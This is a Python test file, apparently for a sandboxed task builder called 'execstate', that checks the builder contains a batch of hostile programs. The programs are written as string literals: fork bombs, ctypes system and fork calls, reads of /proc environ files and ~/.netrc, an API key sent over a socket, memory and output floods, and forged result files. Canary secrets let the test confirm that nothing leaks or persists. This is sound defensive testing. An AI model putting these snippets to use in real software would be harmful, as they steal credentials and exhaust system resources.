"""A hostile batch built in one command: every escape is excluded or contained, nothing leaks or survives.

The batch mixes good cases with programs that try to create processes, write
outside their directory, read the builder's secrets (environment, home,
/proc), reach a loopback listener, flood output, exhaust memory or time,
forge their metrics, and inputs that break parsers. It is built by the real
command with canaries in the environment and the home directory and a
listener running; the test then checks the world from outside.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

CANARY = "sk-canary-4b1d7e2a"
TOKEN = "execstatehostile731"
LOOP = "import sys\nn = int(sys.stdin.read())\ntotal = 0\nfor i in range(n):\n    total += i * i\nprint(total)\n"


def _case(
    root: Path,
    name: str,
    prefix: str = "",
    *,
    short: str = "5\n",
    long: str = "40\n",
    extra: str = "",
    body: str = LOOP,
) -> Path:
    folder = root / name
    folder.mkdir(parents=True)
    (folder / "main.py").write_text(prefix + body)
    (folder / "short.txt").write_text(short)
    (folder / "long.txt").write_text(long)
    (folder / "case.toml").write_text(
        f'id = "hostile/{name}"\nstudy = "hostile"\nlanguage = "python"\nprogram = "main.py"\n'
        f'short_input = "short.txt"\nlong_input = "long.txt"\n{extra}'
        '[checkpoint]\nloop_text = "for i in range(n):"\nvariables = ["total", "i"]\n'
    )
    return folder


def _quietly(code: str) -> str:
    """``code`` wrapped so that its failure does not stop the program (the escape is contained, not fatal)."""
    indented = "\n".join("    " + line for line in code.strip().splitlines())
    return f"try:\n{indented}\nexcept BaseException:\n    pass\n"


def _hostile(root: Path, outside: dict[str, Path], port: int) -> dict[str, str]:
    """Write the batch; returns case name -> what it tries."""
    tries = {
        "good_a": ("", "a plain program"),
        "fork_bomb": (_quietly("import os\nfor _ in range(50):\n    os.fork()"), "os.fork in a loop"),
        "ctypes_system": (
            _quietly(f"import ctypes\nctypes.CDLL(None).system(b'sleep 99 {TOKEN} &')"),
            "system() through ctypes",
        ),
        "ctypes_fork": (
            _quietly(
                "import ctypes, os\nif ctypes.CDLL(None).fork() == 0:\n    os.setsid()\n"
                f"    open('/tmp/{TOKEN}-daemon', 'w')\n    __import__('time').sleep(99)"
            ),
            "fork() through ctypes, then setsid",
        ),
        "posix_subprocess": (
            _quietly(
                "import _posixsubprocess, os\nr, w = os.pipe()\n"
                "_posixsubprocess.fork_exec([b'/bin/sleep', b'99'], [b'/bin/sleep'], True, (),"
                " None, None, -1, -1, -1, -1, -1, -1, r, w, True, False, 0, None, None, None,"
                " -1, None, False)"
            ),
            "_posixsubprocess.fork_exec",
        ),
        "multiprocessing": (
            _quietly("import multiprocessing as m\nm.Process(target=print).start()"),
            "multiprocessing",
        ),
        "writes_outside": (
            _quietly("\n".join(f"open({str(p)!r}, 'w').write('x')" for p in outside.values())),
            "writes to /, /tmp, the builder's directory, the spec tree and home",
        ),
        "reads_secrets": (
            _quietly(
                "import glob, os\nfor p in glob.glob('/proc/*/environ') + "
                "[os.path.expanduser('~/.netrc'), '/root/.netrc']:\n"
                "    try:\n        sys.stderr.write(open(p).read())\n"
                "    except OSError:\n        pass\n"
                "sys.stderr.write(repr(dict(os.environ)))"
            ),
            "the environment, /proc, ~/.netrc",
        ),
        "network": (
            _quietly(
                f"import socket, os\ns = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
                "key = os.environ.get('OPENAI_API_KEY', 'none')\n"
                "s.sendall(f'GET /{key} HTTP/1.0\\r\\n\\r\\n'.encode())"
            ),
            "a loopback HTTP listener",
        ),
        "env_to_stderr_crash": (
            "import os\nsys.stderr.write(repr(dict(os.environ)))\nraise SystemExit(3)\n",
            "prints its environment and crashes",
        ),
        "infinite": ("while True:\n    pass\n", "an infinite loop"),
        "memory": ("x = bytearray(8 * 1024**3)\n", "a memory bomb"),
        "flood": ("while True:\n    print('x' * 4096)\n", "an output flood"),
        "escape_codes": (
            "sys.stderr.write('\\x1b[2J\\x1b]0;pwned\\x07' + 'A' * 3_000_000)\nraise SystemExit(1)\n",
            "a 3 MB stderr line with terminal escape codes",
        ),
        "plants_json": (
            "open('json.py', 'w').write('def dumps(*a, **k):\\n    return \"{}\"\\n')\n"
            "open('result.json', 'w').write('{\"trace_length\": 1000000003}')\n",
            "plants json.py and a forged result.json",
        ),
        "deep_tree": (
            _quietly("import os\nfor _ in range(1500):\n    os.mkdir('d')\n    os.chdir('d')\nos.chdir('/')"),
            "a 1,500-deep directory tree",
        ),
    }
    for name, (prefix, _) in tries.items():
        _case(root, name, "import sys\n" + prefix)
    _case(root, "good_b", body=LOOP.replace("i * i", "3 * i + 1"))
    _case(root, "deep_expression", body="import sys\nx = " + "(" * 3000 + "1" + ")" * 3000 + "\n" + LOOP)
    _case(root, "proc_input", extra="", short="5\n").joinpath("case.toml").write_text(
        (root / "proc_input" / "case.toml")
        .read_text()
        .replace('short_input = "short.txt"', 'short_input = "/proc/self/environ"')
    )
    _case(root, "big_input", long="1" + "0" * 1_100_000 + "\n")
    (root / "dir_named_case" / "case.toml").mkdir(parents=True)
    gen = _case(root, "bad_generator")
    (gen / "gen.py").write_text("import sys\nsys.stdout.buffer.write(b'\\xff\\xfe not utf-8\\n')\n")
    toml = (
        (gen / "case.toml")
        .read_text()
        .replace('long_input = "long.txt"', 'long_input = { generator = "gen.py", args = ["1"] }')
    )
    (gen / "case.toml").write_text(toml)
    tries.update(
        {
            "good_b": "a plain program",
            "deep_expression": "a 3,000-deep nested expression",
            "proc_input": "an input path into /proc",
            "big_input": "a 1.1 MB input",
            "bad_generator": "a generator printing invalid UTF-8",
        }
    )
    return {name: (what if isinstance(what, str) else what[1]) for name, what in tries.items()}


def _build(paths: list[Path], out: Path, cwd: Path, env: dict[str, str]) -> subprocess.CompletedProcess:
    argv = [
        sys.executable,
        "-m",
        "execstate",
        "build",
        *map(str, paths),
        "--out",
        str(out),
        "--timeout",
        "4",
        "--memory-mb",
        "512",
        "--jobs",
        "2",
    ]
    return subprocess.run(argv, cwd=cwd, env=env, capture_output=True, text=True, timeout=600)


def test_a_hostile_batch_is_contained(tmp_path, listener, running):
    port, hits = listener
    home, work, specs = tmp_path / "home", tmp_path / "builder-cwd", tmp_path / "specs"
    for folder in (home, work, specs):
        folder.mkdir()
    (home / ".netrc").write_text(f"machine api.example.com password {CANARY}\n")
    outside = {
        "root": Path(f"/{TOKEN}"),
        "tmp": Path(f"/tmp/{TOKEN}"),
        "cwd": work / TOKEN,
        "spec": specs / TOKEN,
        "home": home / TOKEN,
    }
    tries = _hostile(specs, outside, port)
    env = {
        **os.environ,
        "HOME": str(home),
        "OPENAI_API_KEY": CANARY,
        "ANTHROPIC_API_KEY": CANARY,
        "AWS_SECRET_ACCESS_KEY": CANARY,
        "HF_TOKEN": CANARY,
    }
    started = time.monotonic()
    done = _build([specs], tmp_path / "out", work, env)
    elapsed = time.monotonic() - started
    assert done.returncode == 0, done.stderr[-3000:]
    assert elapsed < 300, elapsed

    out = tmp_path / "out"
    tasks = [json.loads(line) for line in (out / "tasks.jsonl").read_text().splitlines()]
    records = [json.loads(line) for line in (out / "excluded.jsonl").read_text().splitlines()]
    # a spec that cannot be read has no id yet: its record is named ?/<folder>
    excluded = {"hostile/" + e["case_id"].split("/", 1)[1]: e for e in records}
    admitted = {t["case_id"] for t in tasks}
    every_case = {f"hostile/{name}" for name in tries} | {"hostile/dir_named_case"}
    assert admitted | set(excluded) == every_case, "a case vanished from the records"

    # Nothing leaked: no canary in any output, log or console line.
    for text in [done.stdout, done.stderr, *(p.read_text() for p in out.iterdir() if p.is_file())]:
        assert CANARY not in text
    assert hits == []
    # Nothing written outside, nothing left running.
    assert [str(p) for p in outside.values() if p.exists()] == []
    assert not Path(f"/tmp/{TOKEN}-daemon").exists()
    assert running(TOKEN) == [] and running("sleep 99") == []
    # The named exclusions.
    check = {cid.split("/", 1)[1]: e["check"] for cid, e in excluded.items()}
    assert check["infinite"] == "run" and "timeout" in excluded["hostile/infinite"]["reason"]
    assert check["memory"] == "run" and check["flood"] == "run"
    assert check["env_to_stderr_crash"] == "run"
    assert check["proc_input"] == "spec" and check["deep_expression"] == "spec"
    # admitted, or the program's doing (a run or a copy out of its 4 s on a busy machine): never `internal`
    assert check.get("deep_tree", "run") in {"run", "preservation"}, excluded.get("hostile/deep_tree")
    assert check["big_input"] == "input-size"
    assert "hostile/bad_generator" in excluded
    escape = excluded["hostile/escape_codes"]["reason"]
    assert len(escape) <= 2000 and "\x1b" not in escape and "\x07" not in escape
    # Contained escapes leave a normal program: admitted with the right oracle.
    oracle = {t["task_id"]: t["oracle"] for t in tasks}
    for name in (
        "fork_bomb",
        "ctypes_system",
        "ctypes_fork",
        "posix_subprocess",
        "multiprocessing",
        "writes_outside",
        "reads_secrets",
        "network",
        "plants_json",
    ):
        assert f"hostile/{name}" in admitted, (name, excluded.get(f"hostile/{name}"))
        assert oracle[f"hostile/{name}/short-trace-final"] == "30\n"
        assert oracle[f"hostile/{name}/inside-loop-state"].startswith('{"total":')
    metrics = {t["task_id"]: t["metrics"] for t in tasks}
    assert metrics["hostile/plants_json/long-trace-final"]["trace_length"] < 1_000_000
    # The good cases are admitted with the oracles they get when built alone.
    alone = tmp_path / "alone"
    assert _build([specs / "good_a", specs / "good_b"], alone, work, dict(os.environ)).returncode == 0
    for line in (alone / "tasks.jsonl").read_text().splitlines():
        task = json.loads(line)
        assert oracle[task["task_id"]] == task["oracle"]
        assert metrics[task["task_id"]] == task["metrics"]
